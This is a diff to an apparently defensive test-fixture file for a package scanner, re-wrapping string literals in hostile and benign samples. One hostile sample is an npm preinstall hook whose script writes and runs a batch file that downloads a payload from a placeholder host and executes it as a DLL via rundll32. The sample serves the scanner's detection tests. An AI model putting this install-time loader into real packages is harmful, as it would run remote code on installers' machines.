@@ -32,7 +32,8 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             {
                 "package.json": package(preinstall="node a.js"),
                 "a.js": "const fs = require('fs');\nfs.writeFileSync('b.bat', ['@echo off',"
-                "'curl -o c.x https://a.invalid',\n 'ren c.x c.dll', 'rundll32 c.dll,Main'].join('\\r\\n'));\nrequire('child_process').exec('b.bat');\n",
+                "'curl -o c.x https://a.invalid', 'ren c.x c.dll',\n 'rundll32 c.dll,Main'].join('\\r\\n'));\n"
+                "require('child_process').exec('b.bat');\n",
             },
             "block",
             ("a.js", 4),
@@ -59,7 +60,8 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "remote_command": {
         "a downloader saves what is then hashed": py(
-            "import subprocess\nkept = '/tmp/a.tgz'\nsubprocess.run(['curl', '-sL', 'https://a.invalid', '-o', kept])\n"
+            "import subprocess\nkept = '/tmp/a.tgz'\n"
+            "subprocess.run(['curl', '-sL', 'https://a.invalid', '-o', kept])\n"
             "subprocess.run(['sha256sum', kept])\n"
         ).files,
         "an archive is fetched into a folder, and the folder measured": py(
